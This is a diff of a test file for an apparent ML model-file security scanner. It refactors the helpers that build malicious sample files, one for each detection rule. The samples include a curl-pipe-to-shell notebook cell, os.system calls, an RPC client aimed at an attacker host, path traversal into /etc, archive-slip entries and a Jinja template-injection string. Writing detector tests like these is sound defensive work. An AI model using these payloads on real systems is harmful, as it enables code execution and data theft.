@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import base64
 import datetime
+import functools
 import gzip
 import hashlib
 import io
@@ -34,9 +35,26 @@ from modelxray.policy import Policy, Suppression
 from tests import pickle_samples as ps
 from tests import protobuf_builders as pb
 from tests.conftest import data_path
-from tests.factories.keras_cves import harmless_pickle
+from tests.factories.keras_cves import _fn, _lambda_layer, harmless_pickle
 from tests.factories.keras_layers import HUGE_SOURCES
 from tests.factories.keras_models import host_blob
+from tests.test_archive_rules import _link, _tar, _zip
+from tests.test_gguf import build as gguf_file
+from tests.test_gguf import tensor as gguf_tensor
+from tests.test_hdf5_structure import _make as h5_file
+from tests.test_keras_config_refs import _json_model
+from tests.test_legacy_formats import _wrapper_pickle
+from tests.test_loader_regions import _lying_npz
+from tests.test_onnx import add_node as onnx_add
+from tests.test_onnx import external as onnx_external
+from tests.test_onnx import save as onnx_file
+from tests.test_repo_files import _notebook
+from tests.test_safetensors import entry as st_entry
+from tests.test_safetensors import write_raw as safetensors_file
+from tests.test_savedmodel_scan import const as tf_const
+from tests.test_savedmodel_scan import with_serve
+from tests.test_skops_mlflow_xgb import PYFUNC_MLMODEL, _mlmodel, _rewrite_schema
+from tests.test_tflite_flax import _flax_bytes, _nd
 
 EXAMPLES = Path(__file__).parent.parent / "examples"
 MARKER_CMD = "echo MODELXRAY_MARKER > /tmp/modelxray_marker_rule_table"
@@ -78,9 +96,7 @@ def _bytes(name: str, data: bytes | str) -> Factory:
 def _expired_suppression(tmp: Path) -> RuleSample:
     path = _write(tmp / "m.pkl", ps.call1("os", "system", MARKER_CMD))
     sha = hashlib.sha256(path.read_bytes()).hexdigest()
-    gone = Suppression(
-        sha256=sha, rule="MX-PICKLE-001", reason="old", expires=datetime.date(2020, 1, 31)
-    )
+    gone = Suppression(sha, "MX-PICKLE-001", "old exception", datetime.date(2020, 1, 31))
     return _one(path, options=ScanOptions(policy=Policy(suppressions=(gone,))))
 
 
@@ -102,7 +118,7 @@ def _empty_folder(tmp: Path) -> RuleSample:
 
 
 def _heavy_pickle(tmp: Path) -> RuleSample:
-    # valid, seconds of CPU to model: the isolated child runs out of its 1 s CPU limit
+    # valid, but seconds of CPU to model: the isolated child runs out of its 1 s CPU limit
     path = _write(tmp / "heavy.pkl", b"\x80\x04" + b"(1" * 6_000_000 + b"N.")
     return _one(path, isolate_cpu_seconds=1)
 
@@ -114,31 +130,27 @@ def _not_approved(tmp: Path) -> RuleSample:
 
 def _model_data(tmp: Path) -> RuleSample:
     (tmp / "weights.bin").write_bytes(bytes(16))
-    _onnx(tmp / "model.onnx", [_onnx_add()], [_onnx_external("W", "weights.bin")])
+    onnx_file(tmp / "model.onnx", [onnx_add()], [onnx_external("W", "weights.bin")])
     return _one(tmp)
 
 
 # ---------------------------------------------------------------------------------- keras
 
 
-def _keras_json(tmp: Path, *layers: dict[str, Any]) -> RuleSample:
-    doc = {
-        "module": "keras",
-        "class_name": "Sequential",
-        "registered_name": None,
-        "keras_version": "3.8.0",
-        "config": {"name": "s", "layers": list(layers)},
-    }
-    return _one(_write(tmp / "model.json", json.dumps(doc)))
+def _keras_json(*layers: dict[str, Any]) -> Factory:
+    def make(tmp: Path) -> RuleSample:
+        path = _json_model(tmp, layers[0])
+        if len(layers) > 1:
+            doc = json.loads(path.read_text())
+            doc["config"]["layers"] = list(layers)
+            path.write_text(json.dumps(doc))
+        return _one(path)
+
+    return make
 
 
-def _lambda(function: object) -> dict[str, Any]:
-    return {
-        "module": "keras.layers",
-        "class_name": "Lambda",
-        "registered_name": None,
-        "config": {"name": "l", "function": function, "arguments": {}},
-    }
+def _lambda(function: object, **extra: Any) -> dict[str, Any]:
+    return {**_lambda_layer("l", function, {}), **extra}  # type: ignore[arg-type]
 
 
 def _code(code: object) -> dict[str, Any]:
@@ -146,16 +158,8 @@ def _code(code: object) -> dict[str, Any]:
 
 
 def _lambda_source(source: str) -> Factory:
-    return lambda tmp: _keras_json(tmp, _lambda(_code(host_blob(source).b64)))
-
-
-def _fn(module: str, name: str) -> dict[str, Any]:
-    return {
-        "module": module,
-        "class_name": "function",
-        "config": name,
-        "registered_name": "function",
-    }
+    """A Lambda whose code is ``source`` compiled (never run) by this interpreter."""
+    return _keras_json(_lambda(_code(host_blob(source).b64)))
 
 
 def _layer(
@@ -167,7 +171,7 @@ def _layer(
         "registered_name": registered,
         "config": {"name": "x", **config},
     }
-    return lambda tmp: _keras_json(tmp, layer)
+    return _keras_json(layer)
 
 
 def _keras_member_escape(tmp: Path) -> RuleSample:
@@ -179,16 +183,13 @@ def _keras_member_escape(tmp: Path) -> RuleSample:
 
 
 def _h5(build: Callable[[Any], None]) -> Factory:
-    def make(tmp: Path) -> RuleSample:
-        import h5py
+    """An HDF5 file with a Keras ``model_weights`` group (so links keep their severity)."""
 
-        path = tmp / "m.h5"
-        with h5py.File(path, "w") as f:
-            f.create_group("model_weights")
-            build(f)
-        return _one(path)
+    def with_weights(f: Any) -> None:
+        f.create_group("model_weights")
+        build(f)
 
-    return make
+    return lambda tmp: _one(h5_file(tmp / "m.h5", with_weights))
 
 
 def _h5_external_link(f: Any) -> None:
@@ -222,60 +223,47 @@ def _h5_shape_bomb(f: Any) -> None:
 # ---------------------------------------------------------------------------------- repo
 
 
-def _auto_map(tmp: Path, target: object) -> RuleSample:
+def _auto_map(target: object) -> Factory:
     config = {"model_type": "x", "auto_map": {"AutoModel": target}}
-    return _one(_write(tmp / "config.json", json.dumps(config)))
+    return _bytes("config.json", json.dumps(config))
 
 
-def _notebook(*cells: str) -> str:
-    return json.dumps(
-        {
-            "nbformat": 4,
-            "nbformat_minor": 5,
-            "metadata": {},
-            "cells": [
-                {
-                    "cell_type": "code",
-                    "metadata": {},
-                    "outputs": [],
-                    "execution_count": None,
-                    "source": src.splitlines(keepends=True),
-                }
-                for src in cells
-            ],
-        }
-    )
+def _notebook_file(name: str, *cells: str) -> Factory:
+    return _bytes(name, json.dumps(_notebook(list(cells))))
 
 
 # ---------------------------------------------------------------------------------- flax
 
 
-def _msgpack(tree: object) -> Factory:
+def _flax(**params: Callable[[], object]) -> Factory:
     def make(tmp: Path) -> RuleSample:
-        import msgpack
-
-        return _one(_write(tmp / "ckpt.msgpack", msgpack.packb(tree, use_bin_type=True)))
+        tree = {
+            "params": {"ok": _nd(np.ones(3, np.float32)), **{k: v() for k, v in params.items()}}
+        }
+        return _one(_write(tmp / "ckpt.msgpack", _flax_bytes(tree)))
 
     return make
 
 
-def _flax_unknown_ext() -> object:
+def _ext_unknown() -> object:
     import msgpack
 
-    return {"params": {"odd": msgpack.ExtType(99, b"hello")}}
+    return msgpack.ExtType(99, b"hello")
 
 
-def _flax_huge() -> object:
+def _ext_huge_array() -> object:
     import msgpack
 
     array = msgpack.packb(((1 << 20, 1 << 20), "float32", b"\0" * 16), use_bin_type=True)
-    return {"params": {"huge": msgpack.ExtType(1, array)}}
+    return msgpack.ExtType(1, array)
 
 
 # ---------------------------------------------------------------------------------- skops
 
 
 def _skops(edit: Callable[[dict[str, Any]], None] | None, func: str = "log1p") -> Factory:
+    """A real skops file (skops.io.dump of a FunctionTransformer), its schema edited."""
+
     def make(tmp: Path) -> RuleSample:
         import operator
 
@@ -285,18 +273,7 @@ def _skops(edit: Callable[[dict[str, Any]], None] | None, func: str = "log1p") -
         fn = np.log1p if func == "log1p" else operator.attrgetter("real")
         src = tmp / "src.skops"
         sio.dump(FunctionTransformer(func=fn), src)
-        if edit is None:
-            return _one(src)
-        dst = tmp / "m.skops"
-        with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
-            for info in zin.infolist():
-                data = zin.read(info)
-                if info.filename == "schema.json":
-                    doc = json.loads(data)
-                    edit(doc)
-                    data = json.dumps(doc).encode()
-                zout.writestr(info.filename, data)
-        return _one(dst)
+        return _one(src if edit is None else _rewrite_schema(src, tmp / "m.skops", edit))
 
     return make
 
@@ -325,73 +302,26 @@ def _skops_method_mismatch(doc: dict[str, Any]) -> None:
 # ---------------------------------------------------------------------------------- mlflow
 
 
-def _mlmodel(text: str) -> Factory:
-    return lambda tmp: _one(_write(tmp / "m" / "MLmodel", text))
+def _mlflow(*replacements: tuple[str, str]) -> Factory:
+    def make(tmp: Path) -> RuleSample:
+        text = PYFUNC_MLMODEL
+        for old, new in replacements:
+            assert old in text
+            text = text.replace(old, new)
+        return _one(_mlmodel(tmp / "m", text))
 
-
-def _pyfunc_mlmodel() -> str:
-    from tests.test_skops_mlflow_xgb import PYFUNC_MLMODEL
-
-    return PYFUNC_MLMODEL
-
-
-def _custom_loader_mlmodel(tmp: Path) -> RuleSample:
-    text = _pyfunc_mlmodel().replace(
-        "loader_module: mlflow.pyfunc.model", "loader_module: my_loader"
-    )
-    return _mlmodel(text)(tmp)
-
-
-def _escaping_mlmodel(tmp: Path) -> RuleSample:
-    text = _pyfunc_mlmodel().replace(
-        "python_model: python_model.pkl", "python_model: ../../tmp/payload.pkl"
-    )
-    return _mlmodel(text)(tmp)
-
-
-def _pickle_mlmodel(tmp: Path) -> RuleSample:
-    return _mlmodel(_pyfunc_mlmodel())(tmp)
+    return make
 
 
 # ---------------------------------------------------------------------------------- archives
 
 
-def _tar(name: str, entries: list[tarfile.TarInfo | tuple[str, bytes]], mode: str = "w") -> Factory:
-    def make(tmp: Path) -> RuleSample:
-        path = tmp / name
-        with tarfile.open(path, mode) as t:  # type: ignore[call-overload]
-            for e in entries:
-                if isinstance(e, tarfile.TarInfo):
-                    t.addfile(e)
-                else:
-                    info = tarfile.TarInfo(e[0])
-                    info.size = len(e[1])
-                    t.addfile(info, io.BytesIO(e[1]))
-        return _one(path)
-
-    return make
+def _tar_file(name: str, entries: list[tarfile.TarInfo | tuple[str, bytes]]) -> Factory:
+    return lambda tmp: _one(_tar(tmp / name, entries))
 
 
-def _tar_link(name: str, target: str) -> tarfile.TarInfo:
-    info = tarfile.TarInfo(name)
-    info.type = tarfile.SYMTYPE
-    info.linkname = target
-    return info
-
-
-def _zip(name: str, members: list[tuple[str, bytes]]) -> Factory:
-    def make(tmp: Path) -> RuleSample:
-        import warnings
-
-        path = tmp / name
-        with warnings.catch_warnings():
-            warnings.simplefilter("ignore")  # zipfile warns about duplicate names
-            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
-                for member, data in members:
-                    z.writestr(member, data)
-        return _one(path)
-
-    return make
+def _zip_file(name: str, members: list[tuple[str | zipfile.ZipInfo, bytes]]) -> Factory:
+    return lambda tmp: _one(_zip(tmp / name, members))
 
 
 def _7z_without_py7zr(tmp: Path) -> RuleSample:
@@ -412,103 +342,42 @@ def _7z_encrypted(tmp: Path) -> RuleSample:
     return _one(path)
 
 
-def _npz(**arrays: Any) -> bytes:
-    buf = io.BytesIO()
-    np.savez(buf, **arrays)
-    return buf.getvalue()
-
-
 def _prefixed_npz(tmp: Path) -> RuleSample:
-    data = pickle.dumps({"a": [1, 2, 3]}, protocol=2) + _npz(a=np.arange(3))
-    return _one(_write(tmp / "both.npz", data))
-
-
-def _lying_npz(tmp: Path) -> RuleSample:
-    from tests.test_loader_regions import _lying_npz as lying
-
-    return _one(_write(tmp / "lying.npz", lying()))
+    buf = io.BytesIO()
+    np.savez(buf, a=np.arange(3))
+    return _one(_write(tmp / "both.npz", pickle.dumps({"a": [1, 2]}, protocol=2) + buf.getvalue()))
 
 
 # ---------------------------------------------------------------------------------- tf
 
 
 def _saved_model(*nodes: pb.Msg) -> Factory:
-    data = pb.saved_model(pb.keras_like_model(extra_functions=[pb.function(pb.SERVE_FN, nodes)]))
-    return _bytes("saved_model.pb", data)
+    return lambda tmp: _one(_write(tmp / "saved_model.pb", with_serve(*nodes)))
 
 
-def _const(name: str, *values: str) -> pb.Msg:
-    return pb.node(
-        name, "Const", value=pb.attr_string_tensor(*values), dtype=pb.attr_type(pb.DT_STRING)
-    )
+# ---------------------------------------------------------------------------------- safetensors
 
 
-# ---------------------------------------------------------------------------------- safetensors, gguf
-
-
-def _safetensors(header: str | dict[str, object], data: bytes) -> Factory:
-    raw = (header if isinstance(header, str) else json.dumps(header)).encode()
-    return _bytes("m.safetensors", struct.pack("<Q", len(raw)) + raw + data)
-
-
-def _st(dtype: str, shape: list[int], begin: int, end: int) -> dict[str, object]:
-    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}
-
-
-def _gguf_tensor(name: str, dims: list[int], ggml_type: int, offset: int) -> bytes:
-    raw = name.encode()
-    out = struct.pack("<Q", len(raw)) + raw + struct.pack("<I", len(dims))
-    out += b"".join(struct.pack("<Q", d) for d in dims)
-    return out + struct.pack("<IQ", ggml_type, offset)
-
-
-def _gguf(tensors: list[bytes], data: bytes, n_kv: int = 0) -> bytes:
-    body = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), n_kv) + b"".join(tensors)
-    return body + bytes(-len(body) % 32) + data
+def _safetensors(header: dict[str, object], data: bytes) -> Factory:
+    return lambda tmp: _one(safetensors_file(tmp / "m.safetensors", header, data))
 
 
 # ---------------------------------------------------------------------------------- onnx
 
 
-def _onnx_external(name: str, location: str, **extra: str) -> Any:
-    from onnx import TensorProto
-
-    t = TensorProto()
-    t.name, t.data_type = name, TensorProto.FLOAT
-    t.dims.extend([4])
-    t.data_location = TensorProto.EXTERNAL
-    for key, value in {"location": location, **extra}.items():
-        e = t.external_data.add()
-        e.key, e.value = key, value
-    return t
-
-
-def _onnx_add() -> Any:
-    from onnx import helper
-
-    return helper.make_node("Add", ["X", "W"], ["Y"])
-
-
-def _onnx(path: Path, nodes: list[Any], inits: list[Any], domain: str | None = None) -> Path:
-    from onnx import TensorProto, helper
-
-    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])
-    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])
-    opsets = [helper.make_opsetid("", 17)]
-    if domain is not None:
-        opsets.append(helper.make_opsetid(domain, 1))
-    graph = helper.make_graph(nodes, "g", [x], [y], inits)
-    model = helper.make_model(graph, opset_imports=opsets)
-    path.write_bytes(model.SerializeToString())  # onnx.save could write external files
-    return path
-
-
-def _onnx_sample(
-    inits: Callable[[], list[Any]], nodes: Callable[[], list[Any]] | None = None, **kw: Any
+def _onnx(
+    inits: Callable[[], list[Any]],
+    nodes: Callable[[], list[Any]] = lambda: [onnx_add()],
+    domain: str | None = None,
 ) -> Factory:
     def make(tmp: Path) -> RuleSample:
+        from onnx import helper
+
         (tmp / "w.bin").write_bytes(bytes(16))
-        return _one(_onnx(tmp / "m.onnx", nodes() if nodes else [_onnx_add()], inits(), **kw))
+        opsets = [helper.make_opsetid("", 17)]
+        if domain is not None:
+            opsets.append(helper.make_opsetid(domain, 1))
+        return _one(onnx_file(tmp / "m.onnx", nodes(), inits(), opsets))
 
     return make
 
@@ -531,24 +400,40 @@ def _onnx_custom_op() -> list[Any]:
 
 
 def _template(source: str) -> Factory:
-    doc = {"tokenizer_class": "X", "chat_template": source}
-    return _bytes("tokenizer_config.json", json.dumps(doc))
+    return _bytes(
+        "tokenizer_config.json", json.dumps({"tokenizer_class": "X", "chat_template": source})
+    )
 
 
-# ---------------------------------------------------------------------------------- pickle, torch, numpy
+# ---------------------------------------------------------------------------------- pickle
+
+
+@functools.cache
+def _pickle_samples() -> dict[str, ps.Sample]:
+    return ps.build_samples()
 
 
 def _pickle_sample(name: str) -> Factory:
-    return lambda tmp: _one(_write(tmp / "x.bin", ps.build_samples()[name].data))
+    return lambda tmp: _one(_write(tmp / "x.bin", _pickle_samples()[name].data))
 
 
-def _torchscript(src: bytes) -> Factory:
+def _long1(n: int) -> bytes:
+    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
+    return b"\x8a" + bytes([len(raw)]) + raw
+
+
+# ---------------------------------------------------------------------------------- torch, numpy
+
+
+def _torchscript(code: bytes) -> Factory:
+    """A minimal TorchScript archive layout (data.pkl, constants.pkl, one code member)."""
+
     def make(tmp: Path) -> RuleSample:
         buf = io.BytesIO()
         with zipfile.ZipFile(buf, "w") as z:
             z.writestr("m/data.pkl", pickle.dumps({}, protocol=2))
             z.writestr("m/constants.pkl", pickle.dumps((), protocol=2))
-            z.writestr("m/code/__torch__/m.py", src)
+            z.writestr("m/code/__torch__/m.py", code)
         return _one(_write(tmp / "ts.pt", buf.getvalue()))
 
     return make
@@ -560,27 +445,15 @@ def _object_npy(tmp: Path) -> RuleSample:
     return _one(path)
 
 
-def _missing_sidecar(tmp: Path) -> RuleSample:
-    from tests.test_legacy_formats import _wrapper_pickle
-
-    return _one(_write(tmp / "model.pkl", _wrapper_pickle("model.pkl_01.npy")))
-
-
-def _long1(n: int) -> bytes:
-    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
-    return b"\x8a" + bytes([len(raw)]) + raw
-
-
-_BAD_NPY_HEADER = b"{'descr': 5, 'fortran_order': False, 'shape': (1,), }"
+def _npy_header(header: bytes) -> bytes:
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header) + 1) + header + b"\n"
 
 
 # ---------------------------------------------------------------------------------- the table
 
 SAMPLES: dict[str, Factory] = {
     # scan
-    "MX-SCAN-001": lambda tmp: _one(
-        _write(tmp / "broken.h5", (EXAMPLES / "malicious_lambda.h5").read_bytes()[:2000])
-    ),
+    "MX-SCAN-001": _bytes("broken.h5", (EXAMPLES / "malicious_lambda.h5").read_bytes()[:2000]),
     "MX-SCAN-002": _bytes("deep.msgpack", b"\x81\xa1a" + b"\x91" * 100_000 + b"\xc0"),
     "MX-SCAN-003": _bytes("model.safetensors", b"no model format at all"),
     "MX-SCAN-004": lambda tmp: _one(tmp / "absent.pkl"),
@@ -591,26 +464,25 @@ SAMPLES: dict[str, Factory] = {
     "MX-SCAN-009": _empty_folder,
     "MX-SCAN-010": _fifo,
     "MX-SCAN-011": _model_data,
-    # keras: lambda code
+    # keras: Lambda code and function references
     "MX-KERAS-101": _lambda_source(f"lambda x: __import__('os').system({MARKER_CMD!r}) or x"),
     "MX-KERAS-102": _lambda_source("lambda x: some_library.frobnicate(x)"),
-    "MX-KERAS-103": lambda tmp: _keras_json(tmp, _lambda(_code("4wEAAAAA!!!not base64 at all%%%"))),
+    "MX-KERAS-103": _keras_json(_lambda(_code("4wEAAAAA!!!not base64 at all%%%"))),
     "MX-KERAS-104": _lambda_source("lambda x: x * 2.0"),
     "MX-KERAS-107": _lambda_source(HUGE_SOURCES["list_repeat"]),
-    "MX-KERAS-105": lambda tmp: _keras_json(tmp, _lambda(_fn("os", "system"))),
-    "MX-KERAS-106": lambda tmp: _keras_json(tmp, _lambda(_fn("numpy", "sum"))),
+    "MX-KERAS-105": _keras_json(_lambda(_fn("os", "system"))),
+    "MX-KERAS-106": _keras_json(_lambda(_fn("numpy", "sum"))),
     # keras: config references
     "MX-KERAS-201": _layer("operator", "neg"),
     "MX-KERAS-202": _layer("my_company.layers", "Custom"),
     "MX-KERAS-203": _layer(None, "MyLayer", "Custom>MyLayer"),
-    "MX-KERAS-204": lambda tmp: _keras_json(tmp, _lambda(_fn("keras.models", "load_model"))),
-    "MX-KERAS-205": lambda tmp: _keras_json(tmp, _lambda(_fn("builtins", "my_fn"))),
-    "MX-KERAS-206": lambda tmp: _keras_json(
-        tmp,
-        {
-            **_lambda(_fn("keras.models", "load_model")),
-            "inbound_nodes": [{"args": [], "kwargs": {"inputs": "https://example.invalid/m"}}],
-        },
+    "MX-KERAS-204": _keras_json(_lambda(_fn("keras.models", "load_model"))),
+    "MX-KERAS-205": _keras_json(_lambda(_fn("builtins", "my_fn"))),
+    "MX-KERAS-206": _keras_json(
+        _lambda(
+            _fn("keras.models", "load_model"),
+            inbound_nodes=[{"args": [], "kwargs": {"inputs": "https://example.invalid/m"}}],
+        )
     ),
     "MX-KERAS-207": _layer(
         "keras.layers",
@@ -627,70 +499,74 @@ SAMPLES: dict[str, Factory] = {
     "MX-KERAS-305": _h5(_h5_shape_bomb),
     "MX-KERAS-306": _keras_member_escape,
     # repository files
-    "MX-REPO-101": lambda tmp: _auto_map(tmp, "modeling_evil.EvilModel"),
-    "MX-REPO-102": lambda tmp: _auto_map(tmp, "other-org/repo--modeling_x.XModel"),
+    "MX-REPO-101": _auto_map("modeling_evil.EvilModel"),
+    "MX-REPO-102": _auto_map("other-org/repo--modeling_x.XModel"),
     "MX-REPO-103": _bytes("modeling_evil.py", f"import os\nos.system({MARKER_CMD!r})\n"),
-    "MX-REPO-104": _bytes("demo.ipynb", _notebook("!curl -s http://example.invalid/x | sh\n")),
-    "MX-REPO-105": _bytes("odd.ipynb", _notebook("def f(:\n")),
+    "MX-REPO-104": _notebook_file("demo.ipynb", "!curl -s http://example.invalid/x | sh\n"),
+    "MX-REPO-105": _notebook_file("odd.ipynb", "def f(:\n"),
     "MX-REPO-106": _bytes("modelxray.toml", "report_only = true\n"),
-    # tflite, flax
+    # tflite (committed fixtures, made by tests/data/tflite's script), flax
     "MX-TFLITE-101": lambda tmp: _one(data_path("tflite", "custom_ops.tflite")),
     "MX-TFLITE-102": lambda tmp: _one(data_path("tflite", "flex_benign.tflite")),
-    "MX-FLAX-101": lambda tmp: _msgpack(_flax_unknown_ext())(tmp),
-    "MX-FLAX-102": lambda tmp: _msgpack(_flax_huge())(tmp),
+    "MX-FLAX-101": _flax(odd=_ext_unknown),
+    "MX-FLAX-102": _flax(huge=_ext_huge_array),
     # skops
     "MX-SKOPS-101": _skops(_skops_os_system),
     "MX-SKOPS-102": _skops(None, "attrgetter"),
     "MX-SKOPS-103": _skops(_skops_method_mismatch),
     # mlflow
-    "MX-MLFLOW-101": _pickle_mlmodel,
-    "MX-MLFLOW-102": _custom_loader_mlmodel,
-    "MX-MLFLOW-103": _escaping_mlmodel,
-    # archives
-    "MX-ARCHIVE-001": _tar("slip.tar", [("../escape_marker.txt", b"harmless")]),
-    "MX-ARCHIVE-002": _tar("link.tar", [_tar_link("model/w.bin", "/tmp/modelxray_dummy_target")]),
-    "MX-ARCHIVE-003": _tar(
-        "inside.tar", [_tar_link("model/latest.bin", "weights.bin"), ("model/weights.bin", b"w")]
+    "MX-MLFLOW-101": _mlflow(),
+    "MX-MLFLOW-102": _mlflow(("loader_module: mlflow.pyfunc.model", "loader_module: my_loader")),
+    "MX-MLFLOW-103": _mlflow(
+        ("python_model: python_model.pkl", "python_model: ../../tmp/payload.pkl")
     ),
-    "MX-ARCHIVE-004": _zip("dup.zip", [("a/w.bin", b"a"), ("a/w.bin", b"b")]),
+    # archives
+    "MX-ARCHIVE-001": _tar_file("slip.tar", [("../escape_marker.txt", b"harmless")]),
+    "MX-ARCHIVE-002": _tar_file("link.tar", [_link("model/w.bin", "/tmp/modelxray_dummy")]),
+    "MX-ARCHIVE-003": _tar_file(
+        "inside.tar", [_link("model/latest.bin", "weights.bin"), ("model/weights.bin", b"w")]
+    ),
+    "MX-ARCHIVE-004": _zip_file("dup.zip", [("a/w.bin", b"a"), ("a/w.bin", b"b")]),
     "MX-ARCHIVE-005": _bytes("weights.bin.gz", gzip.compress(bytes(5 << 20))),
     "MX-ARCHIVE-006": _7z_without_py7zr,
     "MX-ARCHIVE-007": _7z_encrypted,
     "MX-ARCHIVE-008": _prefixed_npz,
-    "MX-ARCHIVE-009": _lying_npz,
+    "MX-ARCHIVE-009": lambda tmp: _one(_write(tmp / "lying.npz", _lying_npz())),
     # tensorflow graphs
     "MX-TF-101": _saved_model(pb.node("pyfunc_0", "PyFunc", ["x"])),
     "MX-TF-102": _saved_model(
-        _const("p", "/etc/hostname"), pb.node("ReadFile", "ReadFile", ["p:output:0"])
+        tf_const("p", "/etc/hostname"), pb.node("ReadFile", "ReadFile", ["p:output:0"])
     ),
     "MX-TF-103": _saved_model(
-        _const("p", "/tmp/modelxray_marker"), pb.node("w", "WriteFile", ["p:output:0", "x"])
+        tf_const("p", "/tmp/modelxray_marker"), pb.node("w", "WriteFile", ["p:output:0", "x"])
     ),
     "MX-TF-104": _saved_model(
-        _const("addr", "attacker.example:443"),
+        tf_const("addr", "attacker.example:443"),
         pb.node("client", "RpcClient", ["addr:output:0", "timeout"]),
     ),
     "MX-TF-105": _saved_model(pb.node("c", "ModelxrayCustomOpNotInTF", ["x"])),
     # safetensors
-    "MX-SAFETENSORS-001": _safetensors({"a": _st("Q4", [32], 0, 16)}, bytes(16)),
-    "MX-SAFETENSORS-002": _safetensors({"a": _st("F32", [5], 0, 16)}, bytes(16)),
+    "MX-SAFETENSORS-001": _safetensors({"a": st_entry("Q4", [32], 0, 16)}, bytes(16)),
+    "MX-SAFETENSORS-002": _safetensors({"a": st_entry("F32", [5], 0, 16)}, bytes(16)),
     "MX-SAFETENSORS-003": _safetensors(
-        {"a": _st("F32", [2], 0, 8), "b": _st("F32", [2], 16, 24)}, bytes(24) + b"PAYLOAD"
+        {"a": st_entry("F32", [2], 0, 8), "b": st_entry("F32", [2], 16, 24)},
+        bytes(24) + b"PAYLOAD",
     ),
     "MX-SAFETENSORS-004": _safetensors(
-        {"__metadata__": {"n": 3}, "a": _st("F32", [1], 0, 4)}, bytes(4)
+        {"__metadata__": {"n": 3}, "a": st_entry("F32", [1], 0, 4)}, bytes(4)
     ),
     # gguf
     "MX-GGUF-001": _bytes("m.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + b"\xff" * 8),
     "MX-GGUF-002": _bytes(
-        "m.gguf", _gguf([_gguf_tensor("a", [4], 0, 0), _gguf_tensor("a", [4], 0, 32)], bytes(64))
+        "m.gguf",
+        gguf_file([], [gguf_tensor("a", [4], 0, 0), gguf_tensor("a", [4], 0, 32)], bytes(64)),
     ),
     # onnx
-    "MX-ONNX-001": _onnx_sample(lambda: [_onnx_external("W", "../../etc/hostname")]),
-    "MX-ONNX-002": _onnx_sample(lambda: [_onnx_external("W", "w.bin", offset="60", length="16")]),
-    "MX-ONNX-003": _onnx_sample(list, _onnx_custom_op, domain="com.example.untrusted"),
-    "MX-ONNX-004": _onnx_sample(_onnx_two_fields),
-    "MX-ONNX-005": _onnx_sample(lambda: [_onnx_external("W", "w.bin", __class__="x")]),
+    "MX-ONNX-001": _onnx(lambda: [onnx_external("W", "../../etc/hostname")]),
+    "MX-ONNX-002": _onnx(lambda: [onnx_external("W", "w.bin", offset="60", length="16")]),
+    "MX-ONNX-003": _onnx(list, _onnx_custom_op, "com.example.untrusted"),
+    "MX-ONNX-004": _onnx(_onnx_two_fields),
+    "MX-ONNX-005": _onnx(lambda: [onnx_external("W", "w.bin", __class__="x")]),
     # chat templates
     "MX-TEMPLATE-001": _template(
         "{{ cycler.__init__.__globals__.os.popen('echo MODELXRAY_MARKER').read() }}"
@@ -714,7 +590,7 @@ SAMPLES: dict[str, Factory] = {
             + ps.NEWTRUE
             + ps.SETITEM
             + ps.BUILD
-        ),
+        ),  # fmt: skip
     ),
     "MX-PICKLE-005": _bytes("x.pkl", pickle.dumps({"a": [1, 2, 3]}, protocol=4)[:-5]),
     "MX-PICKLE-006": _pickle_sample("t17_frame_divergence"),
@@ -735,14 +611,12 @@ SAMPLES: dict[str, Factory] = {
     # numpy
     "MX-NUMPY-001": _object_npy,
     "MX-NUMPY-002": _bytes(
-        "bad.npy",
-        b"\x93NUMPY\x01\x00"
-        + struct.pack("<H", len(_BAD_NPY_HEADER) + 1)
-        + _BAD_NPY_HEADER
-        + b"\n",
+        "bad.npy", _npy_header(b"{'descr': 5, 'fortran_order': False, 'shape': (1,), }")
     ),
-    "MX-NUMPY-003": _missing_sidecar,
+    "MX-NUMPY-003": lambda tmp: _one(
+        _write(tmp / "model.pkl", _wrapper_pickle("model.pkl_01.npy"))
+    ),
 }
 
-# Rules no file can produce, with the reason.  Empty: every rule has a sample.
+# Rules no file can produce, each with the reason.  Empty: every rule has a sample.
 UNPRODUCIBLE: dict[str, str] = {}
